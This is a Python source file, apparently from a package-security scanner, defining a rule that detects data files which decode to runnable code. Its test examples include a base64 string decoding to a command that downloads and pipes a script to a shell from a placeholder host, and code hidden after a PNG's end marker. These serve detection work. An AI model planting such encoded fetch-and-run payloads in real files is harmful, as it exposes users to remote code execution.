"""Data payload: a file that passes for data decodes to something that can be run."""

from __future__ import annotations

from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.payload import Kind, PayloadFacts
from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity
from pratique.rules.rule import Example, Rule

_ID = "data-payload"
_AT_MOST = 3


def _check(facts: PackageFacts) -> Iterator[Finding]:
    certain = {one.path for one in facts.reached}
    weighed = [(_weight(payload, reached=payload.path in certain), payload) for payload in facts.payloads]
    for (severity, confidence), payload in sorted(weighed, key=lambda p: (-p[0][0] * p[0][1], p[1].path))[:_AT_MOST]:
        yield Finding(
            rule=_ID,
            behaviour=Behaviour.OBFUSCATION,
            severity=severity,
            confidence=confidence,
            phase=Phase.NONE,
            path=payload.path,
            line=0,
            message=f"a file of data hides {payload.kind.value}",
            layers=payload.layers,
            code=payload.code,
        )


def _weight(payload: PayloadFacts, *, reached: bool) -> tuple[Severity, Confidence]:
    if reached:
        return Severity.HIGH, Confidence.HIGH
    if payload.kind is Kind.PROGRAM or len(payload.layers) > 1:
        return Severity.MEDIUM, Confidence.MEDIUM
    return Severity.MEDIUM, Confidence.LOW


_CODED = "aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCBodHRwOi8vMTkyLjAuMi4xL2EgfCBzaCIpCnByaW50KCJkb25lIik="

RULE = Rule(
    id=_ID,
    behaviour=Behaviour.OBFUSCATION,
    summary="A file that passes for data decodes to code or to a program.",
    gain="Scanners and reviewers skip data; one line elsewhere brings it to life.",
    honest="Pictures, models and test vectors are encoded, too, but do not decode to code. Test data of security tools "
    "does: alone it only adds to the score. What runs such a file is judged by what the file does.",
    check=_check,
    loud=(
        Example(title="encoded text", files={"example_pkg/__init__.py": "", "example_pkg/x.dat": _CODED}),
        Example(
            title="behind a picture's end",
            files={
                "example_pkg/__init__.py": "",
                "example_pkg/x.png": b"\x89PNG\r\n\x1a\n" + bytes(60) + b"IEND\xaeB`\x82import os\nos.getcwd()\n",
            },
        ),
    ),
    quiet=(
        Example(
            title="an encoded picture",
            files={"example_pkg/__init__.py": "", "example_pkg/x.b64": "iVBORw0KGgo" + "AAAA" * 60},
        ),
        Example(
            title="words",
            files={"example_pkg/__init__.py": "", "example_pkg/words.txt": "import\nexport\n" * 50},
        ),
    ),
)
